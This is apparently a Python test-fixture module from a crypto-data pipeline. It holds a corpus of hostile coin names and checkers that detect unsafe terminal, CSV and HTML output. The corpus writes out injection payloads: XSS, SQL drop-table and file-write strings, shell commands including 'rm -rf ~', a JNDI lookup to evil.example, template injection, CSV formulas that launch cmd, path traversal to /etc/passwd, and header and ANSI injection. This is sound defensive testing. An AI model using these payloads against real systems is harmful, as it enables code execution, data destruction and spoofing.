"""Names and symbols that a stranger may give a coin, and what they must not do to an output.

``HOSTILE_NAMES`` is the corpus, by what each name tries. The ``faults_in_*`` functions look
at an output that shows them and return, in words, what got through; an empty list is good.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from html.parser import HTMLParser
from typing import Final

_ZALGO = "B" + "̷̧͔͆͠" * 60 + "t" + "̵̨̡̛" * 60

HOSTILE_NAMES: Final[dict[str, str]] = {
    # HTML and scripts
    "html-script": "<script>alert(1)</script>",
    "html-image": '"><img src=x onerror=alert(1)>',
    "html-svg": "<svg/onload=alert(1)>",
    "html-attribute": "' onmouseover='alert(1)",
    "html-end-of-block": "</pre></td></style></title></textarea><iframe src=//evil.example>",
    "html-comment": "--><!-- <b>",
    "html-entity": "&lt;b&gt;&#x3c;&amp;amp;",
    "html-link": '<a href="javascript:alert(1)">Tether</a>',
    "url-script": "javascript:alert(document.cookie)",
    "url-data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    # SQL
    "sql-drop": "Robert'); drop table indices.index_level_daily; --",
    "sql-or": "' or '1'='1",
    "sql-identifier": "x\" ; attach '/tmp/x' as y; --",
    "sql-dollar": "$$; select 1; $$",
    "sql-parameter": "$run_id ? :name %s",
    "sql-copy": "'); copy (select 1) to '/tmp/tidemark-owned'; --",
    # Format strings and templates
    "format-braces": "{0.__class__.__mro__} {settings} {}",
    "format-percent": "%s%s%n%x %(password)s",
    "template-jinja": "{{7*7}}{% for x in () %}{% endfor %}{{ self.__init__.__globals__ }}",
    "template-jndi": "${jndi:ldap://evil.example/a}",
    "template-shell": "$(touch /tmp/tidemark-owned) `id` ; rm -rf ~ | cat &",
    "template-erb": "<%= 7*7 %>#{7*7}",
    "vega-expression": "datum.x; warn('x'); width",
    "vega-signal": "{'signal': 'width'} [a.b] a\\.b['c']",
    "backslashes": "\\n\\u0041\\x41\\0\\\\server\\share",
    # CSV formulas
    "csv-equals": '=HYPERLINK("http://evil.example","click")',
    "csv-command": "=cmd|' /C calc'!A0",
    "csv-plus": "+1+cmd|' /C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "csv-tab": "\t=1+1",
    "csv-return": "\r=1+1",
    "csv-full-width": "＝1+1",
    "csv-quote": 'a","=1+1","b',
    "csv-separator": "a;=1+1,=2+2",
    # Paths
    "path-up": "../../../../etc/passwd",
    "path-up-windows": "..\\..\\windows\\win.ini",
    "path-absolute": "/etc/passwd",
    "path-dot": ".",
    "path-dot-dot": "..",
    "path-hidden": ".env",
    "path-manifest": "manifest.json",
    "path-published": "published/tidemark.duckdb",
    "path-device": "CON",
    "path-glob": "*?[a-z]{a,b}",
    "path-option": "--version",
    "path-long": "/" * 300,
    # Lines, headers and logs
    "line-feed": "Coin\nINFO pipeline.steps: published everything",
    "header-injection": "Coin\r\nBcc: victim@evil.example\r\n\r\nbody",
    "line-separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "null-byte": "Coin\x00hidden",
    "bell-and-delete": "\x07\x08\x7fCoin",
    # Terminals
    "ansi-clear": "\x1b[2J\x1b[H\x1b[31mred",
    "ansi-title": "\x1b]0;owned\x07Coin",
    "ansi-link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "ansi-eight-bit": "\x9b31mred\x9d0;owned\x9c",
    "rich-colour": "[red]Bitcoin[/red]",
    "rich-link": "[link=http://evil.example]Bitcoin[/link]",
    "rich-broken": "[/] [/bold] [bold",
    "rich-emoji": ":skull: :warning:",
    # Markdown
    "markdown-link": "[Bitcoin](http://evil.example) ![x](http://evil.example/x.png)",
    "markdown-table": "a | b | c\n|---|---|",
    "markdown-code": "```\n# Heading\n***x***",
    "slack-mention": "<!channel> <@U123> <http://evil.example|Bitcoin>",
    # Unicode
    "bidi-override": "\u202ecod.niocti\u202cBTC",
    "bidi-isolate": "\u2066BTC\u2069\u2067",
    "zero-width": "B\u200bT\u200cC\u200d\u2060\ufeff",
    "soft-hyphen": "Bit\u00adcoin",
    "tag-characters": "BTC" + "".join(chr(0xE0000 + ord(c)) for c in "hidden"),
    "variation-selectors": "BTC" + "\ufe0f" * 40,
    "zalgo": _ZALGO,
    "lone-surrogate": "Coin\ud800",
    "lone-low-surrogate": "\udfffCoin",
    "noncharacter": "Coin\ufffe\uffff",
    "private-use": "Coin\ue000\U000f0000",
    "emoji": "🚀💎🙌👨‍👩‍👧‍👦🏴‍☠️",
    "right-to-left": "عملة البيتكوين",
    "hebrew": "מטבע 123 BTC",
    "look-alike-cyrillic": "ВТС",
    "look-alike-full-width": "ＢＴＣ",
    "look-alike-greek": "ΒΤϹ",
    "look-alike-bitcoin": "Βіtсоіn",
    "look-alike-same": "BTC",
    "case-folding": "ſİıßﬁ",
    "wide": "比特币" * 20,
    "ligature": "﷽" * 30,
    # Words that a reader takes for something else
    "word-null": "null",
    "word-null-capitals": "NULL",
    "word-nan": "nan",
    "word-none": "None",
    "word-na": "N/A",
    "word-true": "true",
    "word-infinity": "Infinity",
    "word-number": "1e309",
    "word-date": "2024-02-30",
    "word-zero-led": "007",
    "word-proto": "__proto__",
    "empty": "",
    "blank": "   ",
    "blank-unicode": "\u00a0\u2003\u3000",
    "invisible": "\u2800\u3164\u115f",
    # Size
    "long": "A" * 10_000,
    "long-words": "moon " * 2_000,
    "long-wide": "𐍈" * 3_000,
}
"""The corpus: what the name tries, and the name as a vendor's JSON would bring it."""

_DIRECTIONS: Final = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
_FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NUMBER: Final = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?|-?inf|nan")
_ACTIVE_TAGS: Final = frozenset(
    {"script", "iframe", "object", "embed", "link", "base", "form", "input", "meta", "svg", "img"}
)


def storable(name: str) -> bool:
    """Return whether a name is valid Unicode, so that it can be stored and sent at all."""
    try:
        name.encode()
    except UnicodeEncodeError:
        return False
    return True


STORABLE_NAMES: Final[dict[str, str]] = {
    label: name for label, name in HOSTILE_NAMES.items() if storable(name) and name.strip()
}
"""The names of the corpus that survive parsing: valid Unicode, and not blank."""


def faults_in_terminal_text(text: str) -> list[str]:
    """Return what in a text could move the cursor, colour, hide or reorder on a terminal."""
    return [
        f"{character!r} at {place}: ...{text[max(place - 20, 0) : place]!r}"
        for place, character in enumerate(text)
        if character != "\n"
        and (
            unicodedata.category(character) in {"Cc", "Cs", "Zl", "Zp"} or character in _DIRECTIONS
        )
    ]


def faults_in_one_line(text: str) -> list[str]:
    """Return what keeps a text from being one line, whoever splits it."""
    return [] if len(text.splitlines()) <= 1 and "\n" not in text else [f"several lines: {text!r}"]


def faults_in_csv(text: str, delimiter: str = ",") -> list[str]:
    """Return the cells of a CSV that a spreadsheet would run as a formula."""
    return [
        f"row {number}: {cell[:60]!r}"
        for number, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        for cell in row
        if cell.startswith(_FORMULA_STARTS) and not _NUMBER.fullmatch(cell)
    ]


class _Tags(HTMLParser):
    def __init__(self, allowed: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE_TAGS - self.allowed:
            self.faults.append(f"tag <{tag}> at {self.getpos()}")
        for name, value in attrs:
            said = "".join((value or "").split()).lower()
            if name.startswith("on"):
                self.faults.append(f"handler {name} of <{tag}> at {self.getpos()}")
            if said.startswith(("javascript:", "vbscript:", "data:text")) or "evil.example" in said:
                self.faults.append(f"{name}={value!r} of <{tag}> at {self.getpos()}")


def faults_in_html(html: str, allowed_tags: frozenset[str] = frozenset()) -> list[str]:
    """Return tags, handlers and addresses in an HTML page that can only come from a name.

    Args:
        html: The page.
        allowed_tags: Active tags that the page itself uses, such as ``meta``.
    """
    parser = _Tags(allowed_tags)
    parser.feed(html)
    parser.close()
    return parser.faults + [
        f"{character!r} in the page" for character in sorted(_DIRECTIONS) if character in html
    ]
